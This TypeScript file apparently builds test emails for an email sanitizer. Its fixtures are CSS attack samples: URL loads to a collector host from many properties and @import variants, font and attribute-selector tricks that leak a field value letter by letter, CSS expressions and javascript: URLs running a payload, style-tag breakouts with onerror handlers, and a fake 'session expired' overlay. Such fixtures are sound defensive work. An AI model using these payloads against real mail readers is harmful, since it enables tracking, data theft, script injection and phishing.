import { COLLECTOR, PAYLOAD, createEmails } from './model.ts';

const url = (name: string) => `url(${COLLECTOR}/css-${name})`;

/** All properties with a URL value. */
const properties: readonly (readonly [property: string, value: string])[] = [
  ['background', url('background')],
  ['background-image', `linear-gradient(red,red),${url('layers')}`],
  ['border-image', `${url('border-image')} 1`],
  ['border-image-source', url('border-image-source')],
  ['list-style', `${url('list-style')} inside`],
  ['list-style-image', url('list-style-image')],
  ['content', url('content')],
  ['cursor', `${url('cursor')},auto`],
  ['mask', url('mask')],
  ['mask-image', url('mask-image')],
  ['-webkit-mask-image', url('webkit-mask')],
  ['-webkit-mask-box-image', url('mask-box')],
  ['clip-path', url('clip-path#x')],
  ['filter', url('filter#x')],
  ['backdrop-filter', url('backdrop#x')],
  ['shape-outside', url('shape-outside')],
  ['offset-path', url('offset-path#x')],
  ['fill', url('fill#x')],
  ['stroke', url('stroke#x')],
  ['marker', url('marker#x')],
  ['-moz-binding', url('binding#x')],
  ['behavior', url('behavior')],
  ['src', url('src')],
  ['--x', url('variable')],
];

/** Stylesheets that fetch, leak or run something. */
export const styles = createEmails([
  ...properties.map(
    ([property, value]) =>
      [
        `css-${property}`,
        `an address in ${property}`,
        `<ul><li style="display:list-item;position:absolute;${property}:${value};width:9px;height:9px">x</li></ul>`,
      ] as const,
  ),
  [
    'css-import',
    'a stylesheet that imports',
    '<p>x</p>',
    `@import url(${COLLECTOR}/import.css); @import "${COLLECTOR}/import2.css" screen;`,
  ],
  [
    'css-import-layer',
    'imports with layers and conditions',
    `<style>@import url("${COLLECTOR}/layer.css") layer(x) supports(display:grid);</style>`,
  ],
  [
    'css-import-escaped',
    'escapes in the word',
    `<style>@\\69mport "${COLLECTOR}/escaped.css"; p{b\\61 ckground:u\\72l(${COLLECTOR}/escaped.png)}</style><p>x</p>`,
  ],
  ['css-import-comment', 'comments in between', `<style>@import/**/"${COLLECTOR}/comment.css";</style>`],
  [
    'css-import-data',
    'an import of a data: address',
    `<style>@import "data:text/css,@import '${COLLECTOR}/nested.css'";</style>`,
  ],
  [
    'css-font',
    'a font request leaks the used letters',
    `<style>@font-face{font-family:leak;src:url(${COLLECTOR}/font-a);unicode-range:U+61}p{font-family:leak}</style><p>a</p>`,
  ],
  [
    'css-font-local',
    'a font of this computer, or else from outside',
    `<style>@font-face{font-family:l;src:local(NoSuch),url("${COLLECTOR}/font-b") format("woff2")}p{font:9px l}</style><p>x</p>`,
  ],
  [
    'css-attribute',
    'leaks a field value letter by letter',
    `<style>input[value^="s"]{background:${url('attr-s')}}input[value^="t"]{background:${url('attr-t')}}</style><input value=secret>`,
  ],
  [
    'css-has',
    'leaks whether elements exist',
    `<style>html:has(base[href]){background:${url('has')}}:has(a:visited){background:${url('visited')}}</style><p>x</p>`,
  ],
  [
    'css-image-set',
    'sets of images',
    `<p style="background:image-set('${COLLECTOR}/set1.png' 1x,${url('set2')} 2x);background:-webkit-image-set(${url('set3')} 1x)">x</p>`,
  ],
  [
    'css-cross-fade',
    'images made of images',
    `<p style="background:-webkit-cross-fade(${url('fade1')},${url('fade2')},50%)">x</p>`,
  ],
  [
    'css-variable',
    'an address by way of a variable',
    `<style>:root{--u:${url('var')}}p{background:var(--u)}</style><p>x</p>`,
  ],
  [
    'css-property',
    'a property with an address as its value',
    `<style>@property --y{syntax:"<url>";inherits:true;initial-value:${url('property')}}p{background:var(--y)}</style><p>x</p>`,
  ],
  [
    'css-attr',
    'an address out of an attribute',
    `<p data-u="${COLLECTOR}/attr.png" style="background:attr(data-u type(<url>));background-image:image(attr(data-u))">x</p>`,
  ],
  [
    'css-media',
    'the kind of screen',
    `<style>@media (prefers-color-scheme:dark){p{background:${url('dark')}}}@media (min-width:1px){p{border-image:${url('wide')} 1}}@media print{p{background:${url('print')}}}</style><p>x</p>`,
  ],
  [
    'css-container',
    'sizes and states',
    `<style>div{container-type:inline-size}@container (min-width:1px){p{background:${url('container')}}}@supports (display:grid){p{list-style:${url('supports')}}}</style><div><p>x</p></div>`,
  ],
  [
    'css-animation',
    'an animation of images',
    `<style>@keyframes k{from{background-image:${url('key1')}}to{background-image:${url('key2')}}}p{animation:k 1s infinite}</style><p>x</p>`,
  ],
  [
    'css-pseudo',
    'pseudo-elements',
    `<style>p::before{content:${url('before')}}p::marker{content:${url('marker')}}p::first-line{background:${url('first')}}::selection{background:${url('selection')}}</style><p>x</p>`,
  ],
  [
    'css-hover',
    'leaks the pointer position',
    `<style>p:hover{background:${url('hover')}}input:focus{background:${url('focus')}}a:active{background:${url('active')}}</style><p>x</p><input><a href=#>x</a>`,
  ],
  [
    'css-scroll',
    'leaks the scroll position',
    `<style>p{animation:k linear;animation-timeline:view()}@keyframes k{to{background:${url('read')}}}</style><p style="margin-top:2000px">x</p>`,
  ],
  [
    'css-page',
    'rules of every kind',
    `<style>@namespace x url(${COLLECTOR}/namespace);@counter-style c{system:cyclic;symbols:${url('counter')}}@page{background:${url('page')}}@document url(${COLLECTOR}){p{color:red}}@view-transition{navigation:auto}ol{list-style:c}</style><ol><li>x</ol>`,
  ],
  [
    'css-expression',
    'expressions of old browsers',
    `<p style="width:expression(${PAYLOAD});behavior:url(#default#time2);-ms-behavior:url(x.htc)">x</p><style>p{color:expression(${PAYLOAD})}</style>`,
  ],
  [
    'css-js',
    'stylesheets that run',
    `<style type=text/javascript>${PAYLOAD}</style><style>@import "javascript:${PAYLOAD}";</style><link rel=stylesheet href="javascript:${PAYLOAD}">`,
  ],
  [
    'css-end',
    'out of the stylesheet',
    `<style>p{}</style/><img src=x onerror=${PAYLOAD}><style><img title="</style><img src=x onerror=${PAYLOAD}>"></style>`,
  ],
  ['css-comment', 'out of a comment', `<style>/*</style><script>${PAYLOAD}</script>*/</style>`],
  [
    'css-bom',
    'another encoding',
    `<style>@charset "utf-7"; p{}</style><link charset=utf-7 rel=stylesheet href="data:text/css,+AHA-">`,
  ],
  [
    'css-overlay',
    'covers the whole view',
    '<div style="position:fixed;inset:-9999px;z-index:2147483647;background:#fff;cursor:none;pointer-events:all">Your session has expired</div>',
  ],
  [
    'css-hide-all',
    'hides everything',
    '<style>html,body,*{display:none!important;visibility:hidden!important}</style><p>x</p>',
  ],
  [
    'css-huge',
    'extreme sizes',
    '<p style="width:1e9px;height:1e9px;font-size:1e9px;margin:-1e9px;filter:blur(1e6px);transform:scale(1e6) rotate3d(1,1,1,9deg)">x</p>',
  ],
  [
    'css-adopted',
    'the page’s own classes',
    '<div class="toolbar notice problem stage mail"></div><style>.stage,.toolbar,.mail{display:none!important}:host{display:none}</style>',
  ],
]);
